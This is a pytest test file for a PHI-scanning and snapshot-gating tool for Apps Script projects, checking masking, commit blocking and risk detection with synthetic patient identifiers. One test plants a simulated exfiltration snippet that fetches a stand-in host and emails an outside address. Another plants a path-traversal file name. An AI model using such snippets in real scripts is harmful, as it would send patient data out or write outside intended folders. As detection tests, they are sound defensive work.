"""PHI end to end: the scan command, the snapshot gate, the pre-commit hook, validation with
the production reference, acknowledgements, and no raw identifier in any artifact."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from services.emulator.seed import BROKEN_TEST, PLANTED_PATIENT, TIMED_OUT_TEST, demo_sheets
from tests.conftest import Demo

SHEETS = {s.number: s for s in demo_sheets()}


def edit_staging(demo: Demo, number: int, addition: str) -> None:
    demo.edit_script(SHEETS[number].dev3_script_id, addition, "developer@practice.example")


def test_scan_reports_types_lines_masked_excerpts_and_exit_codes(
    tmp_path: Path, demo: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    clean = tmp_path / "clean.gs"
    clean.write_text("const to = 'ops@practice.example'; // call (312) 555-0142\n")
    review = tmp_path / "review.csv"
    review.write_text("name,phone\nfront desk,(773) 268-4410\n")
    block = tmp_path / "block.json"
    block.write_text('{\n  "patient": {\n    "ssn": "412-83-2957"\n  }\n}\n')
    capsys.readouterr()
    assert demo.cli("scan", str(clean)) == 0
    assert demo.cli("scan", str(review)) == 3
    text = capsys.readouterr()  # the findings are the result: stdout (`scan X > file`)
    assert "PHONE" in text.out and "review" in text.out
    assert demo.cli("scan", "--json", str(block), str(review)) == 4
    document = json.loads(capsys.readouterr().out)
    ssn = next(f for f in document["findings"] if f["type"] == "SSN")
    assert (ssn["line"], ssn["severity"], ssn["excerpt"]) == (3, "block", "***-**-2957")
    assert set(ssn) == {
        "id",
        "path",
        "line",
        "column",
        "type",
        "severity",
        "excerpt",
        "acknowledged",
        "reason",
    }
    assert document["summary"]["block"] == 1 and document["summary"]["review"] == 1
    assert demo.cli("scan", "--json", str(block)) == 4
    again = json.loads(capsys.readouterr().out)["findings"][0]["id"]
    assert again == ssn["id"]  # stable across runs


def test_broken_files_are_scanned_where_possible_and_unscannable_otherwise(
    tmp_path: Path, demo: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "binary.bin").write_bytes(b"\x00\x01\x02PK\x03\x04" * 100)
    (tmp_path / "latin1.txt").write_bytes("caf\xe9 SSN 412-83-2957\n".encode("latin-1"))
    (tmp_path / "empty.gs").write_bytes(b"")
    big = tmp_path / "big.csv"
    with big.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)
        handle.seek(0)
        handle.write(b"a,b\n")
    capsys.readouterr()
    assert demo.cli("scan", "--json", str(tmp_path)) == 4
    findings = json.loads(capsys.readouterr().out)["findings"]
    by_file = {Path(f["path"]).name: f for f in findings}
    assert (
        by_file["binary.bin"]["type"] == "UNSCANNABLE"
        and by_file["binary.bin"]["severity"] == "review"
    )
    assert by_file["big.csv"]["type"] == "UNSCANNABLE" and "20 MB" in by_file["big.csv"]["excerpt"]
    assert by_file["latin1.txt"]["type"] == "SSN"  # undecodable bytes replaced, not skipped
    assert "empty.gs" not in by_file


def test_scan_of_missing_path_is_a_usage_error(
    demo: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    assert demo.cli("scan", "/nonexistent/file.gs") == 2
    assert "no such file or folder" in capsys.readouterr().err


def test_the_planted_leaks_are_found_with_type_and_line_and_every_other_sheet_is_clean(
    snapshotted: Demo,
) -> None:
    state = json.loads(snapshotted.workspace.state_path.read_text())["sheets"]
    statuses = {int(k): v.get("gate", {}).get("status") for k, v in state.items()}
    assert {n for n, s in statuses.items() if s != "clean"} == {150, 199}
    leak_150 = {(f["type"], f["line"]) for f in state["150"]["gate"]["findings"]}
    assert ("MRN", 60) in leak_150 and ("PHONE", 61) in leak_150
    assert [(f["type"], f["line"]) for f in state["199"]["gate"]["findings"]] == [("SSN", 59)]


def test_validate_uses_the_live_production_reference(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    capsys.readouterr()
    assert snapshotted.cli("validate", "--sheet", "150", "--sheet", "12", "--json") == 1
    results = {r["sheet"]: r for r in json.loads(capsys.readouterr().out)["sheets"]}
    assert results[12]["ok"] and results[12]["phi"] == "clean"
    found = {(f["type"], f["severity"], f["line"]) for f in results[150]["findings"]}
    assert ("PRODUCTION_MATCH", "block", 60) in found  # the MRN of a production patient
    assert ("NAME", "block", 60) in found  # her name, beside her identifier
    assert results[150]["phi"] == "blocked"
    state = json.loads(snapshotted.workspace.state_path.read_text())["sheets"]
    assert state["150"]["validation"]["status"] == "blocked"
    trail = snapshotted.trail()
    assert trail[-1]["action"] == "validate" and trail[-1]["sheets"] == [12, 150]
    store = snapshotted.store()
    from services.emulator.seed import log_spreadsheet_id

    checks = store.get_values(log_spreadsheet_id(), "'PHI Checks'")["values"]
    store.close()
    assert checks[-1][0] == f"{trail[-1]['user']}:{trail[-1]['seq']}"


def test_validation_catches_syntax_manifest_production_ids_and_risks(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    sheet = SHEETS[47]
    edit_staging(
        snapshotted,
        47,
        f"\nconst PROD = '{sheet.prod_spreadsheet_id}';\n"
        "function leak() { Logger.log(sheet.getRange('A1').getValue()); "
        "UrlFetchApp.fetch('https://collector.invalid/upload'); "
        "MailApp.sendEmail('outside@vendor.example', 's', 'b'); }\n"
        "function broken( {\n",
    )
    assert snapshotted.cli("snapshot", "--sheet", "47") in (0, 1)
    capsys.readouterr()
    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 1
    result = json.loads(capsys.readouterr().out)["sheets"][0]
    problems = " | ".join(result["problems"])
    assert "does not parse as JavaScript" in problems
    assert "hard-codes the production spreadsheet id of sheet 047" in problems
    assert result["risks"]["new_urls"] == ["https://collector.invalid/upload"]
    assert result["risks"]["new_recipients"] == ["outside@vendor.example"]
    assert result["risks"]["logs_cell_values"]


def test_acknowledging_a_review_finding_and_refusing_a_block_one(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    edit_staging(snapshotted, 47, "\n// vendor hotline (773) 268-4411\n")
    assert snapshotted.cli("snapshot", "--sheet", "47") in (0, 1)
    capsys.readouterr()
    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 1
    result = json.loads(capsys.readouterr().out)["sheets"][0]
    phone = next(f for f in result["findings"] if f["type"] == "PHONE")
    assert result["phi"] == "needs-review"
    assert (
        snapshotted.cli(
            "acknowledge",
            "--sheet",
            "47",
            "--finding",
            phone["id"],
            "--reason",
            "the vendor's public hotline",
        )
        == 0
    )
    capsys.readouterr()
    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 0
    result = json.loads(capsys.readouterr().out)["sheets"][0]
    acknowledged = next(f for f in result["findings"] if f["id"] == phone["id"])
    assert acknowledged["acknowledged"] and acknowledged["reason"] == "the vendor's public hotline"
    assert result["phi"] == "clean"

    assert snapshotted.cli("validate", "--sheet", "150", "--json") == 1
    block = next(
        f
        for f in json.loads(capsys.readouterr().out)["sheets"][0]["findings"]
        if f["severity"] == "block"
    )
    assert (
        snapshotted.cli(
            "acknowledge", "--sheet", "150", "--finding", block["id"], "--reason", "please"
        )
        == 5
    )
    assert "cannot be acknowledged" in capsys.readouterr().err


def test_inline_allow_silences_review_findings_on_that_line_only(
    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = tmp_path / "Code.gs"
    code.write_text(
        "const HOTLINE = '(773) 268-4410'; // sheetstage: allow-phi vendor hotline, public\n"
        "const OTHER = '(773) 268-4412';\n"
        "const BARE = '(773) 268-4413'; // sheetstage: allow-phi\n"
        "const SSN = '412-83-2957'; // sheetstage: allow-phi test\n"
    )
    capsys.readouterr()
    assert demo.cli("scan", "--json", str(code)) == 4
    findings = {f["line"]: f for f in json.loads(capsys.readouterr().out)["findings"]}
    assert findings[1]["acknowledged"] and findings[1]["reason"] == "vendor hotline, public"
    assert not findings[2]["acknowledged"]
    assert not findings[3]["acknowledged"] and "without a reason" in findings[3]["reason"]
    assert findings[4]["severity"] == "block" and not findings[4]["acknowledged"]


def test_pre_commit_hook_blocks_a_commit_holding_phi(snapshotted: Demo) -> None:
    root = snapshotted.workspace.root
    hook = root / ".git" / "hooks" / "pre-commit"
    assert hook.is_file()
    leak = root / "staging-sheets" / "notes.txt"
    leak.write_text("patient SSN 412-83-2957\n")
    subprocess.run(["git", "-C", str(root), "add", "staging-sheets/notes.txt"], check=True)
    blocked = subprocess.run(
        ["git", "-C", str(root), "commit", "-m", "notes"], capture_output=True, text=True
    )
    assert blocked.returncode != 0
    assert "commit refused" in blocked.stderr and "***-**-2957" in blocked.stderr
    assert "412-83-2957" not in blocked.stderr
    leak.write_text("patient SSN 000-12-3456 (never issued)\n")
    subprocess.run(["git", "-C", str(root), "add", "staging-sheets/notes.txt"], check=True)
    allowed = subprocess.run(
        ["git", "-C", str(root), "commit", "-qm", "notes"], capture_output=True
    )
    assert allowed.returncode == 0


def test_reference_refresh_caches_only_digests_and_offline_scan_uses_them(
    snapshotted: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    assert snapshotted.cli("reference", "refresh") == 0
    cache = snapshotted.workspace.internal / "cache" / "reference.json"
    text = cache.read_text()
    for raw in PLANTED_PATIENT[:5]:
        assert raw not in text and raw.lower() not in text
    assert "40418827" not in text
    sample = tmp_path / "export.txt"
    sample.write_text("record 4041-8827 for follow-up\n")  # formatted differently, no context
    capsys.readouterr()
    assert snapshotted.cli("scan", "--json", str(sample)) == 4
    assert json.loads(capsys.readouterr().out)["findings"][0]["type"] == "PRODUCTION_MATCH"


def test_no_raw_identifier_appears_in_any_output_or_artifact(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    planted = ["523-71-4086", "523714086", "40418827", "Quenneville", "268-4410", "03/14/1961"]
    outputs = []
    for args in (
        ("--batch",),
        ("validate", "--sheet", "150", "--sheet", "199", "--json"),
        ("drift", "--json"),
        ("reference", "refresh"),
    ):
        snapshotted.cli(*args)
        captured = capsys.readouterr()
        outputs += [captured.out, captured.err]
    root = snapshotted.workspace.root
    artifacts = [
        root / "state.json",
        *(root / "audit").glob("*.jsonl"),
        *(root / ".sheetstage").rglob("*.json"),
    ]
    texts = outputs + [p.read_text(errors="replace") for p in artifacts]
    history = subprocess.run(
        ["git", "-C", str(root), "log", "-p", "--all"], capture_output=True, text=True
    ).stdout
    store = snapshotted.store()
    from services.emulator.seed import log_spreadsheet_id

    log = json.dumps(
        [
            store.get_values(log_spreadsheet_id(), f"'{tab}'")
            for tab in ("Snapshots", "PHI Checks", "Alerts")
        ]
    )
    store.close()
    for value in planted:
        for text in [*texts, log]:
            assert value not in text
        if value in ("523-71-4086", "40418827"):  # block values never reach git
            assert value not in history


def test_every_demo_sheet_without_a_planted_leak_or_failing_test_validates(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    capsys.readouterr()
    assert snapshotted.cli("validate", "--all", "--json") == 1
    results = json.loads(capsys.readouterr().out)["sheets"]
    assert len(results) == 235
    failing = {r["sheet"]: r["phi"] for r in results if not r["ok"]}
    assert failing == {
        150: "blocked",
        199: "blocked",
        BROKEN_TEST: "clean",
        TIMED_OUT_TEST: "clean",
    }
    for number in (BROKEN_TEST, TIMED_OUT_TEST):
        [problem] = next(r["problems"] for r in results if r["sheet"] == number)
        assert problem.startswith("staging tests: ")


def test_an_inline_allow_reason_is_audited_once(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.fast_sheets()
    edit_staging(
        snapshotted,
        47,
        "\nconst HOTLINE = '(773) 268-4411'; // sheetstage: allow-phi vendor line\n",
    )
    assert snapshotted.cli("snapshot", "--sheet", "47") in (0, 1)
    assert snapshotted.cli("validate", "--sheet", "47") == 0
    assert snapshotted.cli("validate", "--sheet", "47") == 0
    allows = [e for e in snapshotted.trail() if e["action"] == "allow-phi"]
    assert len(allows) == 1 and allows[0]["detail"].endswith("vendor line")
    assert "268-4411" not in allows[0]["detail"]


def test_phi_in_production_code_is_kept_out_of_git_too(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    snapshotted.edit_script(
        SHEETS[20].prod_script_id,
        "\n// escalation: SSN 523-71-4087\n",
        "someone.else@practice.example",
    )
    capsys.readouterr()
    assert snapshotted.cli("--batch") == 1
    err = capsys.readouterr().err
    assert "ALERT phi-blocked: production sheet 020 holds PHI (SSN)" in err
    root = snapshotted.workspace.root
    history = subprocess.run(
        ["git", "-C", str(root), "log", "-p", "--all"], capture_output=True, text=True
    ).stdout
    assert "523-71-4087" not in history
    assert (
        "523-71-4087" not in (root / "production-sheets" / "sheet-020_PROD" / "Code.gs").read_text()
    )


def everything_written(demo: Demo, outputs: list[str]) -> list[str]:
    """Every place a value could leak to: outputs, workspace files, git (objects, index,
    messages), the activity log."""
    root = demo.workspace.root
    files = [
        p.read_text(errors="replace")
        for p in [root / "state.json", *(root / "audit").glob("*.jsonl")]
    ]
    git = ["git", "-C", str(root)]
    objects = subprocess.run(
        [*git, "cat-file", "--batch-all-objects", "--batch"], capture_output=True
    ).stdout.decode(errors="replace")
    index = (root / ".git" / "index").read_bytes().decode(errors="replace")
    log = subprocess.run([*git, "log", "--all", "--format=%B"], capture_output=True, text=True)
    store = demo.store()
    from services.activity_log import TABS
    from services.emulator.seed import log_spreadsheet_id

    cells = json.dumps([store.get_values(log_spreadsheet_id(), f"'{tab}'") for tab in TABS])
    store.close()
    return [*outputs, *files, objects, index, log.stdout, cells]


def add_staging_file(demo: Demo, number: int, name: str, source: str) -> None:
    store = demo.store()
    files = store.content(SHEETS[number].dev3_script_id)["files"]
    files.append({"name": name, "type": "SERVER_JS", "source": source})
    store.update_content(SHEETS[number].dev3_script_id, files, "developer@practice.example")
    store.close()


def test_phi_in_a_file_name_is_held_back_and_never_echoed(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    add_staging_file(snapshotted, 33, "Marisol Quenneville 523-71-4086", "// nothing here\n")
    add_staging_file(snapshotted, 34, "../Marisol Quenneville", "// escape\n")
    add_staging_file(snapshotted, 35, "notes pt# 48213377", "// shorthand context\n")
    edit_staging(snapshotted, 36, "\nconst caller = 'SSN 523-' + '71-4088';\n")  # joined
    capsys.readouterr()
    assert snapshotted.cli("--batch") == 1
    out, err = capsys.readouterr()
    assert "ALERT phi-blocked: staging sheet 033 holds PHI (SSN)" in err
    assert "ALERT phi-blocked: staging sheet 035 holds PHI (MRN)" in err
    assert "ALERT phi-blocked: staging sheet 036 holds PHI (SSN)" in err
    assert "FAILED staging sheet 034: refused: file name '../******* ***********' would" in err
    assert not list(snapshotted.workspace.root.rglob("*523-71*"))

    snapshotted.edit_script(SHEETS[9].dev3_script_id, "\n// later\n", "developer@practice.example")
    capsys.readouterr()
    assert snapshotted.cli("--batch") == 1  # sheet 034 still fails; the rest commits as usual
    assert "sheet-009_DEV3/Code.gs" in " ".join(snapshotted.workspace.commit_paths("HEAD"))
    outputs = [out, err, *capsys.readouterr()]
    for text in everything_written(snapshotted, outputs):
        for raw in ("523-71-4086", "523714086", "Quenneville", "Marisol", "48213377", "71-4088"):
            assert raw not in text


def test_a_project_held_back_keeps_state_true_to_what_is_on_disk(
    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
) -> None:
    edit_staging(snapshotted, 40, "\n// caller SSN 523-71-4087\n")
    capsys.readouterr()
    assert snapshotted.cli("--batch") == 1
    assert "1 fetched, 0 changed, 0 failed, 1 held back by the PHI gate" in capsys.readouterr().err
    capsys.readouterr()
    assert snapshotted.cli("drift", "--json") == 0
    drift = {d["sheet"]: d for d in json.loads(capsys.readouterr().out)}[40]
    assert drift["state"] == "in-sync"  # what the workspace holds: the last clean version...
    assert "held back by the PHI gate" in drift["reason"]  # ...and why it is not the newest
    assert snapshotted.cli("diff", "--sheet", "40") == 0
    shown = capsys.readouterr()  # the diff reads the held-back code live, shows it masked
    assert "held its code back; reading it live, masked" in shown.err
    assert "***-**-4087" in shown.out and "523-71-4087" not in shown.out + shown.err
    state = json.loads(snapshotted.workspace.state_path.read_text())["sheets"]["040"]
    assert state["staging"]["held_back"] == state["gate"]["hash"] != state["staging"]["hash"]
    assert snapshotted.cli("--batch") == 0  # held back again: no news, no commit


def test_validation_reads_without_the_workspace_lock_and_once_per_spreadsheet(
    snapshotted: Demo,
) -> None:
    """Reads never wait for the workspace lock: a validation reads every sheet while another
    run holds it, and takes it only to write its results. Each spreadsheet is read once."""
    import threading

    from services import validation
    from services.session import session

    snapshotted.fast_sheets()
    holder = snapshotted.workspace
    done: list[int] = []
    results: list[list[validation.SheetValidation]] = []
    with session(snapshotted.config) as opened:
        worker = threading.Thread(
            target=lambda: results.append(
                validation.validate(opened, ["12", "150"], lambda d, t, r: done.append(d))
            )
        )
        with holder.lock():
            assert snapshotted.cli("drift") == 0  # reading commands do not wait at all
            assert snapshotted.cli("diff", "--sheet", "12") == 0
            worker.start()
            for _ in range(600):
                if len(done) == 2:
                    break
                worker.join(0.1)
            assert done == [1, 2] and worker.is_alive()  # read everything, waits to write
        worker.join(60)
        assert emulator_counts(opened)["values_batch_get"] == 2 * 2 + 1  # + the activity log
    assert [r.sheet.number for r in results[0]] == [12, 150]
    assert snapshotted.trail()[-1]["action"] == "validate"


def emulator_counts(opened) -> dict[str, int]:  # type: ignore[no-untyped-def]
    emulator = opened.backend.emulator
    assert emulator is not None
    return dict(emulator.gate.counts)
